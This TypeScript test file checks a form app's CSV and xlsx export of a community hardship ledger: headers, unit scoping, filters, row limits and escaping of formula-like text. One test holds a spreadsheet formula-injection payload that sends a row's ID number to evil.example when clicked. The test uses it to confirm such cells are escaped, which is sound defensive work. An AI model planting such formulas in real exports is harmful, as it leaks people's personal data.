// A form app's list exported as CSV and .xlsx with the list's filters: read back with csv-parse and exceljs.
import { parse } from 'csv-parse/sync';
import { FORM_TEMPLATES, type FormDefinition } from '@toolbox/sdk/forms';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportColumns } from '../../src/data/exportColumns.ts';
import { writeRecordsFile } from '../../src/data/writeRecordsFile.ts';
import type { TestApp } from '../helpers/createTestApp.ts';
import { testEngines } from '../helpers/engines.ts';
import { readXlsx } from '../helpers/readFiles.ts';
import { login, type Session } from '../helpers/login.ts';
import { GOOD_ID, goodRecord, ledgerApp } from '../forms/formSupport.ts';

const url = '/api/apps/hardship-hy/data/records';

describe.each(testEngines)("a form app's export (%s)", (engine) => {
  let t: TestApp;
  let admin: Session;
  let staff: Session;
  let staff2: Session;

  beforeAll(async () => {
    ({ t, admin, staff, staff2 } = await ledgerApp({ engine }));
    t.clock.set('2026-03-02T23:30:00+08:00');
    staff = await login(t.app, 'staff');
    const rows: [Session, Record<string, unknown>][] = [
      [staff, { name: '王秀英', amount: 1200.5, householdSize: 3, causes: ['因病', '因残'] }],
      [staff, { name: '=HYPERLINK("x")', category: '特困人员' }],
      [staff, { name: '李建军', category: '低收入家庭' }],
      [staff2, { name: '卫国强' }],
    ];
    for (const [who, extra] of rows) {
      const res = await t.app.inject({ method: 'POST', url, headers: who.headers, payload: goodRecord(extra) });
      expect(res.statusCode, res.body).toBe(201);
    }
    const wang = (await t.app.inject({ url: `${url}?search=王秀英&searchIn=name`, headers: staff.headers })).json().items[0];
    expect((await t.app.inject({ method: 'PUT', url: `${url}/${wang.id}`, headers: staff.headers, payload: { ...wang.data, status: 'helping' } })).statusCode).toBe(200);
  });
  afterAll(async () => t?.close());

  it('CSV: UTF-8 with a BOM, labels as headers, states by name, Shanghai times, the unit’s filtered records only', async () => {
    const res = await t.app.inject({ url: `${url}/export?format=csv&filter=category:eq:低保家庭`, headers: staff.headers });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent('困难群众帮扶台账-2026-03-02.csv')}`);
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(res.rawPayload.subarray(3).toString('utf8')) as string[][];
    const header = rows[0]!;
    expect(header.slice(0, 6)).toEqual(['户主姓名', '身份证号', '联系电话', '住址', '家庭人口', '困难类别']);
    expect(header.slice(-4)).toEqual(['状态', '所属单位', '登记时间', '最后修改']);
    expect(rows).toHaveLength(2);
    const wang = Object.fromEntries(header.map((h, i) => [h, rows[1]![i]]));
    expect(wang).toMatchObject({ 户主姓名: '王秀英', 身份证号: GOOD_ID, 住址: '8号楼 201室', 家庭人口: '3', 致困原因: '因病、因残', 救助金额: '1200.5', 状态: '帮扶中', 责任社工: '王芳', 登记时间: '2026-03-02 23:30' });
    expect(wang.所属单位).toMatch(/居委会|居民区/);
  });

  it('xlsx: the same columns in English, numbers as numbers, a formula-like text kept as text', async () => {
    const res = await t.app.inject({ url: `${url}/export?format=xlsx&lang=en&sort=name`, headers: staff.headers });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const rows = await readXlsx(res.rawPayload);
    expect(rows[0]!.slice(0, 3)).toEqual(['Head of household', 'ID number', 'Phone']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(["'=HYPERLINK(\"x\")", '李建军', '王秀英']);
    const wang = rows.find((r) => r[0] === '王秀英')!;
    expect(wang[rows[0]!.indexOf('Amount')]).toBe(1200.5);
    expect(wang[rows[0]!.indexOf('Status')]).toBe('Being helped');
  });

  it('the owner exports every unit; bad filters are refused as in the list', async () => {
    const all = await t.app.inject({ url: `${url}/export?format=csv`, headers: admin.headers });
    expect((parse(all.rawPayload.subarray(3).toString('utf8')) as string[][]).length).toBe(5);
    const other = await t.app.inject({ url: `${url}/export?format=csv`, headers: staff2.headers });
    expect((parse(other.rawPayload.subarray(3).toString('utf8')) as string[][]).map((r) => r[0])).toEqual(['户主姓名', '卫国强']);
    const bad = await t.app.inject({ url: `${url}/export?format=csv&filter=shoe:eq:1`, headers: staff.headers });
    expect(bad.json()).toMatchObject({ statusCode: 400, code: 'TOOLBOX_QUERY_FIELD_UNKNOWN' });
    expect((await t.app.inject({ url: `${url}/export?format=pdf`, headers: staff.headers })).json().code).toBe('TOOLBOX_VALIDATION_FAILED');
  });
});

describe("an export over the limit", () => {
  it('is refused before anything is sent, naming the count and the limit', async () => {
    const { t, staff } = await ledgerApp({ engine: 'sqlite', limits: { exportRows: 1 } });
    try {
      for (const name of ['甲', '乙']) expect((await t.app.inject({ method: 'POST', url, headers: staff.headers, payload: goodRecord({ name }) })).statusCode).toBe(201);
      const refused = await t.app.inject({ url: `${url}/export?format=xlsx`, headers: staff.headers });
      expect(refused.json()).toMatchObject({ statusCode: 400, code: 'TOOLBOX_EXPORT_TOO_LARGE', message: 'The export would hold 2 rows, more than 1: narrow the filters' });
      expect((await t.app.inject({ url: `${url}/export?format=csv&search=甲&searchIn=name`, headers: staff.headers })).statusCode).toBe(200);
    } finally {
      await t.close();
    }
  });
});

describe('export columns', () => {
  it('count a photo field’s photos and label it so', () => {
    const ebike = FORM_TEMPLATES.find((f) => f.id === 'ebike-charging') as FormDefinition;
    const columns = exportColumns({ type: 'object' }, ebike, 'zh-CN');
    const photo = columns.find((c) => c.header.endsWith('（张）'));
    expect(photo?.header).toBe('现场照片（张）');
    const record = { id: 'r', data: { photos: [{ id: 'a' }, { id: 'b' }] }, unitId: 'u', createdBy: 'x', createdAt: '2026-01-31T16:30:00Z', updatedAt: '2026-01-31T16:30:00Z' };
    const key = ebike.sections.flatMap((s) => s.fields).find((f) => f.kind === 'photo')!.key;
    expect(photo?.cell({ ...record, data: { [key]: [{ id: 'a' }, { id: 'b' }] } }, '')).toBe(2);
    expect(columns.find((c) => c.header === '登记时间')?.cell(record, '')).toBe('2026-02-01 00:30');
  });
});

describe('the CSV writer', () => {
  it('writes a label that Excel would run as a formula as text, in the header as in the cells', async () => {
    // A form's label is the maker's or developer's text: this one would send the first row's ID number away on a click.
    const label = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看详情")';
    const columns = [
      { header: label, width: 20, cell: () => '-1+1' },
      { header: '身份证号', width: 20, cell: () => GOOD_ID },
    ];
    const record = { id: 'r', data: {}, unitId: 'u', createdBy: 'x', createdAt: '2026-01-31T16:30:00Z', updatedAt: '2026-01-31T16:30:00Z' };
    const batches = (async function* () {
      yield [{ record, unitName: '华阳居委会' }];
    })();
    const chunks: Buffer[] = [];
    for await (const chunk of writeRecordsFile('csv', 'sheet', columns, batches)) chunks.push(chunk as Buffer);
    const rows = parse(Buffer.concat(chunks).subarray(3).toString('utf8')) as string[][];
    expect(rows).toEqual([[`'${label}`, '身份证号'], ["'-1+1", GOOD_ID]]);
  });
});
